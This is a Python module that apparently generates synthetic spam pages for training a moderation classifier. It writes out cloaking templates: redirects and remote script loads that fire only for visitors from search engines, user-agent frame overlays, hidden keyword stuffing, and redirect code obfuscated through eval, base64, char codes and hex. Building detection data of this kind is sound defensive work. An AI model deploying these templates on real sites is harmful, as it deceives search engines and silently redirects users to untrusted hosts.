"""THREATS.md, section 11: what is written for the crawler only."""

from __future__ import annotations

import base64

from moderation.taxonomy import SOLD_CATEGORIES, CategoryId
from moderation.training.pages.draft import Draft, untouched
from moderation.training.pages.markup import element, encode, inserted
from moderation.training.pages.material import Desk
from moderation.verdict import Action

_C = CategoryId
_ENGINES = ("baidu", "sogou", "so.com", "sm.cn", "google", "bing")


def _page(desk: Desk, *categories: CategoryId) -> Draft:
    draft = untouched(desk, desk.donor())
    draft.categories, draft.action = categories, Action.REJECT
    return draft


def _line(desk: Desk) -> tuple[str, bool]:
    """A keyword line, and whether it is piled: a labelled or typed one; on train pages also one joined by machine."""
    if desk.split == "train" and desk.chance(0.4):
        return ",".join(desk.words(6, *SOLD_CATEGORIES)), True
    rows = desk.rows(
        "explicit.kwrow", "explicit.keyword_row", "gambling.row", "explicit.siterow", "explicit.pirate_row"
    )
    if rows and desk.chance(0.5):
        row = desk.draw.choice(rows)
        return row.text, _C.KEYWORD_STUFFING in row.categories
    return desk.phrase("keyword_lines"), True


def _keywords(desk: Desk) -> str:
    return _line(desk)[0]


def _titled(desk: Desk) -> tuple[Draft, str]:
    """A page and the line that its title says under a disguise: what is piled there is piled for every reader."""
    draft = _page(desk, _C.EXPLICIT, _C.CLOAKING)
    line, piled = _line(desk)
    draft.categories += (_C.KEYWORD_STUFFING,) if piled else ()
    return draft, line


def meta_disagrees(desk: Desk) -> Draft:
    """Keywords and description of another world over a clean page."""
    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
    draft.keywords = _keywords(desk)
    draft.description = draft.keywords if desk.chance(0.5) else _keywords(desk)
    return draft


def entity_title(desk: Desk) -> Draft:
    """The title in numeric entities."""
    draft, line = _titled(desk)
    draft.heading = draft.title
    form = desk.draw.choice(("&#{};", "&#x{:x};"))
    draft.title_html = "".join(form.format(ord(character)) for character in line)
    draft.title, draft.bare = line, True
    return draft


def escaped_title(desk: Desk) -> Draft:
    r"""The title as \u escapes that a script puts in place."""
    draft, line = _titled(desk)
    escaped = "".join(f"\\u{ord(character):04x}" for character in line)
    if desk.chance(0.5):
        draft.heading, draft.title, draft.bare = draft.title, escaped, True
    else:
        draft.head = f'<script>document.title="{escaped}";</script>'
    return draft


def _redirect(desk: Desk) -> str:
    target = f"https://{desk.cheap_host()}/?{desk.token(4)}"
    engines = desk.draw.sample(_ENGINES, 4)
    shape = desk.number(0, 2)
    if shape == 0:
        return f"var r=document.referrer;if(/{'|'.join(engines)}/i.test(r)){{window.location.href='{target}';}}"
    tests = "||".join(f"s.indexOf('{engine}')>-1" for engine in engines)
    action = "location.replace" if shape == 1 else "window.top.location.assign"
    return f"(function(){{var s=document.referrer.toLowerCase();if({tests}){{{action}('{target}')}}}})();"


def referrer_script(desk: Desk) -> Draft:
    """A script that acts only for visitors from a search engine."""
    draft = _page(desk, _C.CLOAKING)
    _place_script(desk, draft, _redirect(desk))
    return draft


def referrer_encoded(desk: Desk) -> Draft:
    """The same, encoded: base64, character codes, or packed in eval."""
    draft = _page(desk, _C.CLOAKING)
    code = _redirect(desk)
    shape = desk.number(0, 3)
    if shape == 0:
        written = f"eval(atob('{base64.b64encode(code.encode()).decode()}'));"
    elif shape == 1:
        written = f"eval(String.fromCharCode({','.join(str(ord(character)) for character in code)}));"
    elif shape == 2:
        written = "window['\\x65\\x76\\x61\\x6c']('" + "".join(f"\\x{ord(character):02x}" for character in code) + "');"
    else:
        source = base64.b64encode(code.encode()).decode()
        written = f"var _0x{desk.token(4)}='{source}';setTimeout(function(){{(new Function(atob('{source}')))()}},10);"
    _place_script(desk, draft, written)
    return draft


def _place_script(desk: Desk, draft: Draft, code: str) -> None:
    script = element("script", code, "hidden")
    if desk.chance(0.5):
        draft.head = script
    else:
        draft.end = script


def meta_refresh(desk: Desk) -> Draft:
    """A meta refresh to another domain over a copied text."""
    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
    draft.heading = draft.title
    draft.title = desk.row("explicit.pirate_video", "explicit.brand", "explicit.app", "explicit.anchor").text
    refresh = f"{desk.draw.choice((0, 0, 1, 3))};url=http://{desk.cheap_host()}/"
    draft.head = f'<meta http-equiv="refresh" content="{refresh}">'
    return draft


def user_agent_test(desk: Desk) -> Draft:
    """Spiders read the article, phones are sent away, and a frame covers the rest."""
    draft = _page(desk, _C.CLOAKING)
    target = f"http://{desk.cheap_host()}/m/"
    spiders = desk.draw.choice(("baiduspider|googlebot|sogou web spider", "Baiduspider|360Spider|YisouSpider|bingbot"))
    code = (
        f'if(!/{spiders}/i.test(navigator.userAgent)){{document.write(\'<iframe src="{target}" '
        'style="position:fixed;left:0;top:0;width:100%;height:100%;border:0;z-index:99999"><\\/iframe>\');}'
    )
    _place_script(desk, draft, code)
    return draft


def special_characters(desk: Desk) -> Draft:
    """A template's random symbols around an abusive title."""
    draft = _page(desk, _C.EXPLICIT)
    row = desk.row("explicit.disguise", "explicit.pirate_video", "explicit.video")
    left, right = desk.draw.choice(("✿✿", "▓▒", "☆★", "♂♀", "۩۞")), desk.draw.choice(("◢◣", "❤❥", "♧♤", "๑۩", "〓〓"))
    draft.heading, draft.title = draft.title, f"{left}{row.text}{right}"
    draft.categories = tuple({*draft.categories, *row.categories})
    draft.lead = f"<p>{encode(f'{left}{row.text}{right}')}</p>"
    return draft


def image_texts(desk: Desk) -> Draft:
    """Keywords in the alt and title of one-pixel pictures."""
    draft = _page(desk, _C.HIDDEN_CONTENT, _C.KEYWORD_STUFFING)
    images = "".join(
        f'<img src="/t.gif" width="1" height="1" alt="{encode(word)}" title="{encode(word)}">'
        for word in desk.words(desk.number(8, 24), *SOLD_CATEGORIES)
    )
    draft.tail = element("div", images, "hidden", attributes='class="pics"')
    return draft


def structured_data(desk: Desk) -> Draft:
    """Structured data that names another page than the one to be seen."""
    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
    line = _keywords(desk).replace('"', "")
    data = f'{{"@context":"https://schema.org","@type":"Movie","name":"{line}","description":"{line}"}}'
    draft.head = element("script", data, "hidden", attributes='type="application/ld+json"')
    return draft


def hidden_heading(desk: Desk) -> Draft:
    """A second, invisible headline and a paragraph of keywords without any link."""
    draft = _page(desk, _C.HIDDEN_CONTENT, _C.EXPLICIT)
    line = _keywords(desk)
    style = desk.draw.choice(
        ("display:none", "position:absolute;left:-8000px", "font-size:0", "height:0;overflow:hidden")
    )
    inner = element("h1", encode(inserted(line)), "text")
    draft.top = element("div", inner, "hidden", attributes=f'style="{style}"')
    return draft


def loaded_script(desk: Desk) -> Draft:
    """For visitors from a search engine alone, another site's script is loaded."""
    draft = _page(desk, _C.CLOAKING)
    engines, target = "|".join(desk.draw.sample(_ENGINES, 3)), f"//js.{desk.cheap_host()}/{desk.token(5)}.js"
    shape = desk.number(0, 2)
    if shape == 0:
        code = f"if(/{engines}/.test(document.referrer)){{document.writeln('<script src=\"{target}\"><\\/script>');}}"
    elif shape == 1:
        code = (
            f"var s=document.createElement('script');s.src='{target}';"
            f"if(document['ref'+'errer'].match(/{engines}/i))document.head.appendChild(s),s.src='{target}';"
        )
    else:
        listed = ",".join(f"'{engine}'" for engine in desk.draw.sample(_ENGINES, 3))
        code = (
            f"var e=[{listed}],hit=0;for(var i=0;i<e.length;i++){{if(document.referrer.indexOf(e[i])>=0){{hit=1;break;}}}}"
            f"if(hit){{var n=document.createElement('script');n.src='{target}';document.body.appendChild(n);}}"
        )
    _place_script(desk, draft, code)
    return draft


def deep_codes(desk: Desk) -> Draft:
    """A redirect under several codes: hand-made decoders, reversed text, shifted letters, code in code."""
    draft = _page(desk, _C.CLOAKING)
    code = _redirect(desk)
    shape = desk.number(0, 4)
    coded = base64.b64encode(code.encode()).decode()
    if shape == 0:
        written = (
            f"function d(s){{return decodeURIComponent(escape(window.atob(s)))}}eval(d('{coded[:40]}'+'{coded[40:]}'));"
        )
    elif shape == 1:
        turned = code[::-1].replace("\\", "\\\\").replace("'", "\\'")
        written = f"eval('{turned}'.split('').reverse().join(''));"
    elif shape == 2:
        numbers = ",".join(str(ord(character) + 7) for character in code)
        written = (
            f"var k=[{numbers}],o='';for(var i=0;i<k.length;i++)o+=String.fromCharCode(k[i]-7);(new Function(o))();"
        )
    elif shape == 3:
        percent = "".join(f"%{ord(character):02X}" for character in f"eval(atob('{coded}'))")
        written = f"eval(unescape('{percent}'));"
    else:
        written = f"var h='{code.encode().hex()}',t='';for(var i=0;i<h.length;i+=2)t+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(t);"
    _place_script(desk, draft, written)
    return draft


def phone_redirect(desk: Desk) -> Draft:
    """Phones are sent to somebody else's site."""
    draft = _page(desk, _C.CLOAKING)
    draft.action = Action.REVIEW
    target = f"https://{desk.cheap_host()}/app/"
    _place_script(
        desk, draft, f"if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){{window.location.href='{target}';}}"
    )
    return draft


def script_redirect(desk: Desk) -> Draft:
    """Everybody who runs scripts is sent away; the text is for who does not."""
    draft = _page(desk, _C.CLOAKING)
    draft.action = Action.REVIEW
    target = f"http://{desk.cheap_host()}/"
    code = desk.draw.choice(
        (
            f"window.location.replace('{target}');",
            f"setTimeout(function(){{top.location.href='{target}'}},50);",
            f"window.onload=function(){{var u='{target[:6]}'+'{target[6:]}';location=u}};",
        )
    )
    _place_script(desk, draft, code)
    return draft


def frame_over_page(desk: Desk) -> Draft:
    """A frame of another site over the whole text."""
    draft = _page(desk, _C.CLOAKING)
    draft.action = Action.REVIEW
    style = "position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:9999"
    draft.end = element("iframe", "", "hidden", attributes=f'src="//{desk.cheap_host()}/" style="{style}"')
    return draft


def open_graph(desk: Desk) -> Draft:
    """Cards for sharing that name another page than the one to be seen."""
    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
    line = encode(_keywords(desk)).replace('"', "")
    draft.head = f'<meta property="og:title" content="{line}"><meta property="og:description" content="{line}">'
    return draft


def script_title(desk: Desk) -> Draft:
    """A script that gives the page another title once it runs."""
    draft = _page(desk, _C.CLOAKING, _C.EXPLICIT)
    line = _keywords(desk).replace("'", "").replace("\\", "")
    written = "".join(f"\\u{ord(character):04x}" for character in line) if desk.chance(0.6) else line
    draft.head = element("script", f"document.title='{written}';", "hidden")
    return draft
